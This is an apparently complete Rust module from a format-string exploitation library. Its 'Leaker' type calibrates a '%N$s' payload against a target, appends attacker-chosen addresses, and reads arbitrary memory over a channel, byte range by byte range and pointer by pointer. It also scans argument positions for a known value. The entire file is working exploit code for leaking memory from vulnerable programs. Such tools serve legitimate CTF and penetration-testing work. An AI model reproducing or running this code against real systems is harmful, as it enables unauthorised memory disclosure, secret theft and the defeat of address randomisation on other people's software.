//! Arbitrary memory reads through a calibrated format string.
//!
//! [`Leaker::memory_at`] appends the raw address after the calibrated
//! `%N$s` template, so the target dereferences the attacker-chosen word.
//! Each call is one round trip and leaves no state behind.

use crate::calibrate::{self, Calibration};
use crate::channel::{round_trip, Channel};
use crate::config::Config;
use crate::error::{Error, Result};
use crate::fmtstr::{self, FormatStringInfo, Specifier};
use crate::pointer::{Pointer, PointerMaker};

/// Reads target memory and arguments via `%N$s` / `%N$p`.
#[derive(Debug, Clone)]
pub struct Leaker {
    config: Config,
    info: FormatStringInfo,
    maker: PointerMaker,
    calibration: Calibration,
}

impl Leaker {
    /// Calibrate against `chan` and build a leaker.
    pub fn new<C: Channel + ?Sized>(
        chan: &mut C,
        config: Config,
        info: FormatStringInfo,
    ) -> Result<Self> {
        check_read_specifier(&info)?;
        let calibration = calibrate::calibrate(chan, &config, &info, Specifier::String)?;
        Self::from_calibration(config, info, calibration)
    }

    /// Build a leaker from an earlier `%s` calibration.
    pub fn from_calibration(
        config: Config,
        info: FormatStringInfo,
        calibration: Calibration,
    ) -> Result<Self> {
        config.validate()?;
        info.validate()?;
        check_read_specifier(&info)?;
        let maker = config.pointer_maker()?;
        Ok(Self {
            config,
            info,
            maker,
            calibration,
        })
    }

    pub fn config(&self) -> &Config {
        &self.config
    }

    pub fn info(&self) -> &FormatStringInfo {
        &self.info
    }

    pub fn calibration(&self) -> &Calibration {
        &self.calibration
    }

    pub fn pointer_maker(&self) -> &PointerMaker {
        &self.maker
    }

    /// The line sent to leak the string at `ptr`.
    pub fn payload_at(&self, ptr: &Pointer) -> Result<Vec<u8>> {
        if ptr.width() != self.maker.width() {
            return Err(Error::Pointer(format!(
                "{} is {} bytes wide, target uses {}",
                ptr,
                ptr.width(),
                self.maker.width()
            )));
        }
        if ptr.bytes().contains(&b'\n') {
            log::warn!("{} contains a newline byte; line-based targets will truncate it", ptr);
        }
        let mut payload = self.calibration.template().to_vec();
        payload.extend_from_slice(ptr.bytes());
        Ok(payload)
    }

    /// Leak the NUL-terminated string at `ptr`.
    pub fn memory_at<C: Channel + ?Sized>(&self, chan: &mut C, ptr: &Pointer) -> Result<Vec<u8>> {
        let payload = self.payload_at(ptr)?;
        let reply = round_trip(chan, &self.config, &payload, &self.info.terminator, || {
            format!("leak at {}", ptr)
        })?;
        fmtstr::extract_leak(&reply, &payload, &self.info)
    }

    /// Leak argument `param` using the configured specifier.
    pub fn memory_at_param<C: Channel + ?Sized>(&self, chan: &mut C, param: usize) -> Result<Vec<u8>> {
        if param > self.config.max_num_params {
            return Err(Error::Bounds(format!(
                "parameter {} exceeds max_num_params {}",
                param, self.config.max_num_params
            )));
        }
        calibrate::probe(
            chan,
            &self.config,
            &self.info,
            param,
            self.info.specifier,
            self.calibration.aligned_len(),
            &[],
        )
    }

    /// First parameter index whose leak equals `target`.
    pub fn find_param_number<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        target: &[u8],
    ) -> Result<Option<usize>> {
        for param in 0..self.config.max_num_params {
            if self.memory_at_param(chan, param)? == target {
                log::debug!("{} found at parameter {}", target.escape_ascii(), param);
                return Ok(Some(param));
            }
        }
        Ok(None)
    }

    /// Read exactly `len` bytes starting at `ptr`.
    ///
    /// `%s` stops at the first NUL, so every short leak is followed by a
    /// zero byte and the next leak resumes after it.
    pub fn read_bytes<C: Channel + ?Sized>(
        &self,
        chan: &mut C,
        ptr: &Pointer,
        len: usize,
    ) -> Result<Vec<u8>> {
        let mut out = Vec::with_capacity(len);
        while out.len() < len {
            let leaked = self.memory_at(chan, &ptr.offset(out.len() as i64))?;
            let take = leaked.len().min(len - out.len());
            out.extend_from_slice(&leaked[..take]);
            if out.len() < len {
                out.push(0);
            }
        }
        Ok(out)
    }

    /// Read one pointer-sized word at `ptr`.
    pub fn read_pointer<C: Channel + ?Sized>(&self, chan: &mut C, ptr: &Pointer) -> Result<Pointer> {
        let bytes = self.read_bytes(chan, ptr, self.maker.width())?;
        self.maker.from_bytes(&bytes)
    }
}

/// Parameter leaks need a conversion; `%N$` alone is malformed.
fn check_read_specifier(info: &FormatStringInfo) -> Result<()> {
    if info.specifier == Specifier::None {
        return Err(Error::Config(
            "leaking parameters needs the p or s specifier".into(),
        ));
    }
    Ok(())
}
